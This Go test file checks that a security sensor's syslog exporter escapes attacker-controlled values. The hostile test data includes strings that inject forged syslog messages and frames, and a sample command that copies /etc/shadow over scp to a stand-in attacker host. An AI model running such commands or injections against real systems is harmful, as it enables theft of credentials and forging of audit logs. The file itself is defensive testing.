//go:build linux

package siem

import (
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/plog"

	"github.com/copywatch/copywatch/internal/schema"
	"github.com/copywatch/copywatch/internal/testprocess"
)

// hostileValues are what an attacker may choose, and what of it the receiver of a message has to read.
var hostileValues = []struct{ name, sent, read string }{
	{"quotes", `a "b" 'c'`, `a "b" 'c'`},
	{"backslashes", `\ \\ \" \] \n`, `\ \\ \" \] \n`},
	{"ends with a backslash", `a\`, `a\`},
	{"brackets", `] [x y="z"] ]]`, `] [x y="z"] ]]`},
	{"a second element", `x"][evil@1 a="b"] text`, `x"][evil@1 a="b"] text`},
	{"a second message", "x\"]\n<34>1 2026-01-01T00:00:00Z evil su - - - pwned\n", `x"]\n<34>1 2026-01-01T00:00:00Z evil su - - - pwned\n`},
	{"a second frame", "x\n58 <34>1 2026-01-01T00:00:00Z evil su - - - pwned", `x\n58 <34>1 2026-01-01T00:00:00Z evil su - - - pwned`},
	{"control characters", "a\x00b\x01c\x02d\te\rf\x1bg\x7fh\u0085i\u009bj", "a?b?c?d?e?f?g?h?i?j"},
	{"placeholders of the transform", "\x01\"\x02\\\x01]", `?"?\?]`},
	{"lines and directions of Unicode", "a\u2028b\u2029c\u202ed\u2066e", "a?b?c?d?e"},
	{"other scripts", "ü 漢字 🦀 é", "ü 漢字 🦀 é"},
	{"references", `$1 $$ ${env:HOME} %s %n`, `$1 $$ ${env:HOME} %s %n`},
	{"a key of its own", `a="b" process.entity_id="c"`, `a="b" process.entity_id="c"`},
}

// hostileBatch makes one match for each value, which is in every attribute that an attacker chooses.
func hostileBatch(r *replay, values []string) (logs plog.Logs, entities []string) {
	logs, entities, _ = r.batch(matchEvery * len(values))
	for i, value := range values {
		record := logs.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords().At(i * matchEvery)
		attributes := record.Attributes()
		for _, name := range []string{
			schema.WorkingDirectory, schema.ExecutablePath, schema.UserName, schema.RealUserName, schema.CommandLine,
			"process.tty", "process.parent.executable.name", "cicd.pipeline.name", "vcs.ref.head.name",
		} {
			attributes.PutStr(name, value)
		}
		args := attributes.PutEmptySlice(schema.CommandArgs)
		for _, arg := range []string{"scp", value, "/etc/shadow", "evil@203.0.113.7:" + value} {
			args.AppendEmpty().SetStr(arg)
		}
		ancestors := attributes.PutEmptySlice("process.ancestors.executable.name")
		ancestors.AppendEmpty().SetStr(value)
	}
	return logs, entities
}

func TestSyslogHostileInput(t *testing.T) {
	address := freeAddress(t)
	a := newAuthority(t)
	server := serveSyslog(t, a, address)
	c := newSyslogCollector(t, a, address)
	c.start(t)
	r := newReplay(t, c)

	var values []string
	for _, each := range hostileValues {
		values = append(values, each.sent)
	}
	logs, entities := hostileBatch(r, values)
	replayLogs(t, r, logs)
	server.arrivals.requireAll(t, entities, testprocess.Patience)

	messages := server.received(t)
	require.Equal(t, len(entities), server.count(), "one message for each record")
	for i, each := range hostileValues {
		m := messages[entities[i]]
		require.Equal(t, "scp", m.data["filecopy.tool"], each.name)
		for _, name := range []string{"process.working_directory", "process.executable.path", "process.user.name", "cicd.pipeline.name"} {
			require.Equal(t, each.read, m.data[name], "%s in %s", each.name, name)
		}
		require.NotEmpty(t, m.text)
		require.Contains(t, m.data["filecopy.local_paths"], "/etc/shadow", each.name)
	}
	c.requireNoComplaint(t)
	require.NotContains(t, c.daemon.Output(), "failed to execute", "no statement of the transform fails")
}

// The host's name, the process and the kind are of the sensor, or of whoever
// sends to it: they are no way out of the header either.
func TestSyslogHostileHeader(t *testing.T) {
	address := freeAddress(t)
	a := newAuthority(t)
	server := serveSyslog(t, a, address)
	c := newSyslogCollector(t, a, address, "COPYWATCH_MATCHES_ONLY=false")
	c.start(t)
	r := newReplay(t, c)

	logs, _, entities := r.batch(matchEvery)
	logs.ResourceLogs().At(0).Resource().Attributes().PutStr(schema.HostName, "ho st\n<34>1 é"+strings.Repeat("x", 300))
	for _, record := range logs.ResourceLogs().At(0).ScopeLogs().At(0).LogRecords().All() {
		record.Attributes().PutStr(schema.EventAction, "a b\nc"+strings.Repeat("y", 100))
		record.Attributes().PutStr(schema.PID, "1 2\n3")
		for _, name := range []string{"priority", "version", "hostname", "appname", "message", "structured_data", "msg_id", "proc_id"} {
			record.Attributes().PutStr(name, "evil]\n")
		}
		record.Body().SetStr("a\nb\u2028c")
	}
	replayLogs(t, r, logs)
	server.arrivals.requireAll(t, entities, testprocess.Patience)
	for _, m := range server.received(t) {
		require.Equal(t, "ho?st?<34>1???"[:12], m.hostname[:12])
		require.Len(t, m.hostname, 255)
		require.Equal(t, "-", m.procID)
		if m.data["filecopy.tool"] == "" { // of a match the processor sets both
			require.Equal(t, "a?b?c"+strings.Repeat("y", 27), m.msgID)
			require.Equal(t, `a\nb?c`, m.text)
		}
	}
	require.Equal(t, len(entities), server.count())
	require.NotContains(t, c.daemon.Output(), "failed to execute", "no statement of the transform fails")
}

// However long everything is, a message is not longer than promised, and has what an analyst needs first.
func TestSyslogLongValuesAreCut(t *testing.T) {
	address := freeAddress(t)
	a := newAuthority(t)
	server := serveSyslog(t, a, address)
	c := newSyslogCollector(t, a, address)
	c.start(t)
	r := newReplay(t, c)

	var values []string
	for _, part := range []string{"a", `"`, `\`, "]", "🦀", "\n", "\x01", `\"]🦀`} {
		for _, count := range []int{199, 200, 701, 2000, 16000} {
			values = append(values, strings.Repeat(part, count), "x"+strings.Repeat(part, count))
		}
	}
	logs, entities := hostileBatch(r, values)
	replayLogs(t, r, logs)
	server.arrivals.requireAll(t, entities, testprocess.Patience)

	messages := server.received(t)
	require.Equal(t, len(entities), server.count())
	for _, entity := range entities {
		m := messages[entity]
		for _, name := range []string{"filecopy.tool", "filecopy.direction", "process.user.name", "process.command_line", "threat.technique.id"} {
			require.NotEmpty(t, m.data[name], name)
		}
	}
	longest := messages[entities[slices.Index(values, strings.Repeat("🦀", 16000))]]
	require.Equal(t, strings.Repeat("🦀", 50)+"...", longest.data["process.command_line"], "what is cut is marked")
	require.NotContains(t, longest.data, "process.working_directory", "gives way to what matters more")
	c.requireNoComplaint(t)
	require.NotContains(t, c.daemon.Output(), "failed to execute", "no statement of the transform fails")
}
